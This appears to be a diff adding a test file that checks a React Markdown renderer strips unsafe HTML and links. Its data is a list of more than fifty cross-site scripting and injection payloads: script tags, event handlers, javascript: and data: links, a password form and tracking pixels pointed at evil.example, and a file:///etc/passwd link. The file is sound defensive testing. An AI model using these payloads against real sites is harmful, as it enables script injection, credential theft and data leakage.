@@ -1,0 +1,98 @@
+import { renderToStaticMarkup } from "react-dom/server";
+import { expect, test } from "vitest";
+import { MarkdownText } from "./markdown-text";
+
+const draw = (text: string) => renderToStaticMarkup(<MarkdownText text={text} />);
+
+const hostile = [
+  "<script>alert(1)</script>",
+  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+  "a <script>alert(1)</script> b",
+  "<img src=x onerror=alert(1)>",
+  '<img src="https://evil.example/p.png">',
+  "<svg onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  '<iframe src="https://evil.example"></iframe>',
+  "<iframe srcdoc='<script>alert(1)</script>'>",
+  '<object data="https://evil.example/x.swf"></object>',
+  '<embed src="https://evil.example/x">',
+  '<form action="https://evil.example"><input name=password></form>',
+  '<a href="javascript:alert(1)">press</a>',
+  '<a onclick="alert(1)">press</a>',
+  '<div style="background:url(https://evil.example/x)">x</div>',
+  "<style>@import url(https://evil.example/x.css)</style>",
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<video src="https://evil.example/x.mp4" autoplay></video>',
+  '<audio src="https://evil.example/x.mp3">',
+  "<math><mtext><script>alert(1)</script></mtext></math>",
+  "<template><script>alert(1)</script></template>",
+  "<!--><script>alert(1)</script>-->",
+  "<![CDATA[<script>alert(1)</script>]]>",
+  "[press](javascript:alert(1))",
+  "[press](JaVaScRiPt:alert(1))",
+  "[press](java\tscript:alert(1))",
+  "[press](&#106;avascript:alert(1))",
+  "[press](javascript&colon;alert(1))",
+  "[press](\u0001javascript:alert(1))",
+  "[press](vbscript:msgbox(1))",
+  "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "[press](data:text/html,<script>alert(1)</script>)",
+  "[press](file:///etc/passwd)",
+  "[press](blob:https://evil.example/1)",
+  "[press](//evil.example/x)",
+  "[press](/api/auth/logout)",
+  "[press](../api/cards/delete)",
+  "[press](https://bank.example@evil.example/)",
+  "[press](ms-settings:privacy)",
+  "<javascript:alert(1)>",
+  "![pixel](https://evil.example/p.png?secret)",
+  "![pixel](//evil.example/p.png)",
+  "![pixel](data:image/svg+xml;base64,PHN2Zz4=)",
+  "![pixel][ref]\n\n[ref]: https://evil.example/p.png",
+  "[![pixel](https://evil.example/p.png)](javascript:alert(1))",
+  "[press][ref]\n\n[ref]: javascript:alert(1)",
+  '[press](https://good.example "x\\" onmouseover=\\"alert(1)")',
+  "> - # <script>alert(1)</script> [press](javascript:alert(1)) ![p](https://evil.example/p.png)",
+  "**<b onmouseover=alert(1)>bold</b>** `<script>alert(1)</script>`",
+  "```html\n<script>alert(1)</script>\n```",
+] as const;
+
+test(`${hostile.length} hostile texts are known, at least fifty`, () => {
+  expect(new Set(hostile).size).toBeGreaterThanOrEqual(50);
+});
+
+test.each(hostile)("nothing dangerous is left of %j", (text) => {
+  const html = draw(text);
+  const tags = [...html.matchAll(/<\/?([a-z0-9]+)/gi)].map(([, name]) => name);
+  const harmless = ["div", "p", "span", "a", "ul", "ol", "li", "strong", "em", "code", "pre", "blockquote", "br", "hr"];
+  expect(tags.filter((name) => !harmless.includes(name ?? ""))).toEqual([]);
+  const attributes = [...html.matchAll(/<[a-z0-9]+((?:\s+[a-z-]+="[^"]*")*)\s*\/?>/gi)].flatMap(([, list = ""]) =>
+    [...list.matchAll(/([a-z-]+)="([^"]*)"/gi)].map(([, name = "", value = ""]) => [name.toLowerCase(), value]),
+  );
+  const known = ["class", "dir", "lang", "href", "rel", "target", "referrerpolicy", "title", "start"];
+  expect(attributes.filter(([name]) => !known.includes(name ?? ""))).toEqual([]);
+  const links = attributes.filter(([name]) => name === "href").map(([, value]) => value);
+  expect(links.filter((address) => !/^(https?:\/\/|mailto:)/.test(address ?? ""))).toEqual([]);
+  expect(html).not.toMatch(/(src|srcset|poster|background|action)=/i);
+});
+
+test("a picture is its description, and a link that leads nowhere good is its words", () => {
+  expect(draw("![A herd](https://evil.example/p.png)")).toContain("<span>A herd</span>");
+  expect(draw("[press](javascript:alert(1))")).toContain("<span>press</span>");
+});
+
+test("links to the web and to mail open elsewhere and tell nobody where from", () => {
+  const html = draw("[Site](https://example.mn/a?b=1) and <mailto:herd@example.mn>");
+  expect(html).toContain('href="https://example.mn/a?b=1"');
+  expect(html).toContain('href="mailto:herd@example.mn"');
+  expect(html.match(/rel="noopener noreferrer nofollow"/g)).toHaveLength(2);
+});
+
+test("list items that stand one a line are a list, and Markdown stays what it is", () => {
+  expect(draw("Herders\r\nTheir families")).toContain("<li>Herders</li>");
+  expect(draw("- Herders\n- Families").match(/<li>/g)).toHaveLength(2);
+  expect(draw("One.\n\nTwo.").match(/<p>/g)).toHaveLength(2);
+  expect(draw("# Малчид\n\n**Хүн**")).toContain("<strong>Хүн</strong>");
+});
